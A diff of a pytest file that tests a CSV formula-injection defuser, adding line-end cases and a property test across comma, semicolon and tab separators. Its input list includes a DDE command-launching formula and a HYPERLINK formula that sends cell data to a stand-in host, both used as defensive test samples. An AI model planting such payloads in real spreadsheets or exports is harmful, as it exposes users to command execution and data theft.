@@ -21,7 +21,7 @@ SIGNS = "=+-@＝＋－＠\t\r"
 @pytest.mark.parametrize(
     "text",
     [
-        *["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", "−1"],
+        *["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x", "−1"],
         *[" =1", "\u00a0=1", "\u200b=1", "\ufeff=1", '"=1"', "'=1", "“=1”", "\u202e=1", "\x00=1", "\x0b=1"],
         *["=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1?x="&A1)', "=1+1\nmore", "-2 degrees"],
     ],
@@ -39,9 +39,11 @@ def test_other_text_is_left(text: str) -> None:
     assert cell(text) == text
 
 
-def test_sign_after_a_semicolon_or_tab_is_defused_too() -> None:
-    """Where the list separator of the country is a semicolon, the line is parted there."""
+def test_sign_after_a_semicolon_a_tab_or_a_line_end_is_defused_too() -> None:
+    """Where the list separator of the country is a semicolon, the line is parted there, quotes or not."""
     assert cell("Toll;=1+1;fine; @x\t+2") == "Toll;'=1+1;fine;' @x\t'+2"
+    assert cell("Toll\r\n=1+1\n- fine") == "Toll\r\n'=1+1\n'- fine"
+    assert cell("\n=1") == "'\n'=1"
 
 
 def test_numbers_are_numbers_and_lists_are_joined() -> None:
@@ -71,3 +73,15 @@ def test_file_is_read_by_any_reader_of_csv() -> None:
     pledge = next(row for row in back if row["type"] == "pledge")
     assert (pledge["amount_value"], pledge["quote_start"].isdigit(), pledge["cameo"]) == ("40000000.0", True, "0331")
     assert file.getvalue().count("\r\n") == len(rows) + 1
+
+
+@given(st.lists(st.sampled_from([*"=+-@＝;\t\r\n \"'a,", "\r\n"]), max_size=12).map("".join))
+@example("a\n=1")
+@example('a\r\n"=1')
+def test_no_cell_is_a_formula_where_the_list_separator_is_another(text: str) -> None:
+    """The line is parted at semicolons or tabs; its quotes hold no line end in then, and what follows begins a row."""
+    file = io.StringIO()
+    csv.writer(file, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC).writerow(["x", cell(text), "y"])
+    for separator in ",;\t":
+        for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator):
+            assert all(part.lstrip(' "')[:1] not in set("=+-@＝") or not part for part in row)
